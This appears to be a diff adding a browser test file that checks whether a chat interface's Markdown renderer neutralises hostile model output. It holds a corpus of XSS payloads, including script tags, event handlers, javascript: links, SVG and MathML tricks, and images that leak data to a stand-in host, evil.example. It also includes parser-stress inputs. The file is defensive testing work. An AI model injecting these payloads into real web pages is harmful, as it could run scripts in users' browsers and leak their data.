@@ -1,0 +1,125 @@
+"""Whatever a model says: no script runs, nothing is asked of any other place, and the page stays a page."""
+
+import pytest
+from playwright.async_api import Page, Route
+
+from .conftest import opened, say
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
+
+EVIL = "http://evil.example"
+
+CORPUS = {
+    "script": "<script>window.pwned = 1; fetch('http://evil.example/s')</script>",
+    "script in text": "before <ScRiPt src=http://evil.example/x.js></sCrIpT> after",
+    "onerror": '<img src=x onerror="window.pwned = 1">',
+    "onload svg": '<svg onload="window.pwned = 1"><circle r=9 /></svg>',
+    "svg use": '<svg><use href="http://evil.example/x.svg#a"/><animate onbegin="window.pwned=1"/></svg>',
+    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>',
+    "mathml href": '<math href="javascript:window.pwned=1">click</math>',
+    "iframe": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    "object": '<object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
+    "javascript link": "[click me](javascript:window.pwned=1)",
+    "javascript link, disguised": "[click](java&#115;cript:window.pwned=1) [b](\x01javascript:window.pwned=1) [c](<java\tscript:window.pwned=1>)",
+    "javascript autolink": "<javascript:window.pwned=1>",
+    "vbscript and data": "[a](vbscript:x) [b](data:text/html;base64,PHNjcmlwdD4=) [c](blob:x) [d](file:///etc/passwd)",
+    "remote image": "![a chart](http://evil.example/leak?q=secret)",
+    "reference image": "![a][b]\n\n[b]: http://evil.example/leak",
+    "data image": "![](data:image/svg+xml,%3Csvg onload=alert(1)%3E)",
+    "image in link": "[![x](http://evil.example/i.png)](http://evil.example/l)",
+    "image with handler": '![x" onerror="window.pwned=1](http://evil.example/i.png)',
+    "title with handler": "[x](http://evil.example/ \"a' onmouseover='window.pwned=1\")",
+    "style": "<style>body{background:url(http://evil.example/css)} .said{display:none}</style>",
+    "style attribute": '<p style="background:url(http://evil.example/attr);position:fixed;inset:0">x</p>',
+    "link and base": '<link rel=stylesheet href=http://evil.example/a.css><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/">',
+    "form": '<form action="http://evil.example/f"><input name=a><button>go</button></form>',
+    "clobbering": '<form id=location><input name=body></form><a id=legato name=legato href=x>x</a>',
+    "code language": '```"><img src=x onerror=window.pwned=1>\ncode\n```',
+    "code": "```html\n<script>window.pwned = 1</script>\n```",
+    "table": "| <img src=x onerror=window.pwned=1> | `b` |\n|---|---|\n| <script>window.pwned=1</script> | x |",
+    "half a tag": "text <img src=http://evil.example/half ",
+    "comment": "<!--><img src=x onerror=window.pwned=1>-->",
+    "cdata": "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+    "template": "<template><script>window.pwned=1</script></template>",
+    "custom": "<x-a onclick=window.pwned=1 tabindex=1 onfocus=window.pwned=1 autofocus>x</x-a>",
+    "bidi and control": "a\u202egpj.exe\u0000\ufeff <b>x</b>",
+}
+
+FORBIDDEN = (
+    "script, style, link, base, meta, iframe, object, embed, form, input, img, svg, math, template, noscript, video, audio"
+)
+
+
+async def watched(page: Page) -> list[str]:
+    """All that is asked of other places, and every word of a script that ran."""
+    heard: list[str] = []
+
+    async def refuse(route: Route) -> None:
+        heard.append(route.request.url)
+        await route.abort()
+
+    await page.route(lambda url: url.startswith(EVIL), refuse)
+    page.on("request", lambda request: heard.append(request.url) if "evil" in request.url else None)
+    page.on("dialog", lambda dialog: heard.append(dialog.message))
+    page.on("popup", lambda popup: heard.append(popup.url))
+    return heard
+
+
+async def assert_harmless(page: Page, name: str) -> None:
+    assert await page.locator(".prose").locator(FORBIDDEN).count() == 0, name
+    assert await page.evaluate("window.pwned") is None, name
+    attributes = await page.evaluate(
+        """() => [...document.querySelectorAll('.prose *')].flatMap(e => [...e.attributes].map(a => [a.name, a.value]))"""
+    )
+    for attribute, value in attributes:
+        assert attribute in {"class", "href", "target", "rel", "tabindex", "type", "start"}, (name, attribute)
+        if attribute == "href":
+            assert value.startswith(("http://", "https://", "mailto:")), (name, value)
+    assert page.url.startswith("http://127.0.0.1")
+
+
+async def test_hostile_markdown_does_nothing(page: Page) -> None:
+    heard = await watched(page)
+    await opened(page)
+    for count, (name, text) in enumerate(CORPUS.items()):
+        await say(page, text)
+        await page.locator(".reply").nth(count).locator(".figures").wait_for(state="attached")
+        await assert_harmless(page, name)
+        assert heard == [], name
+    await page.reload()
+    await page.locator(".reply").nth(len(CORPUS) - 1).locator(".figures").wait_for(state="attached")
+    await assert_harmless(page, "all of it, read again")
+    assert heard == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "> " * 3000 + "deep",
+        "- " * 3000 + "deep",
+        "\n".join(" " * depth * 2 + "- x" for depth in range(120)),
+        "[" * 10_000,
+        "*a " * 5_000,
+        "|a" * 800 + "|\n" + "|-" * 800 + "|\n" + ("|1" * 800 + "|\n") * 5,
+    ],
+    ids=["quotes", "lists", "indented lists", "brackets", "emphasis", "a huge table"],
+)
+async def test_what_breaks_parsers_is_shown_and_the_page_goes_on(page: Page, text: str) -> None:
+    await opened(page)
+    await say(page, text)
+    await page.locator(".reply .figures").wait_for(state="attached")
+    assert (await page.locator(".reply .prose").inner_text()).strip()
+    await say(page, "still there")
+    await page.locator(".reply").nth(1).locator(".figures").wait_for(state="attached")
+    assert await page.locator(".reply .prose").last.inner_text() == "still there"
+
+
+async def test_a_link_leaves_without_taking_the_page_along(page: Page) -> None:
+    await opened(page)
+    await say(page, "see [the docs](https://example.org/docs) and ![a picture](https://example.org/i.png)")
+    await page.locator(".reply .figures").wait_for(state="attached")
+    for link in await page.locator(".prose a").all():
+        assert await link.get_attribute("target") == "_blank"
+        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
+    assert await page.locator(".prose a").all_inner_texts() == ["the docs", "a picture"]
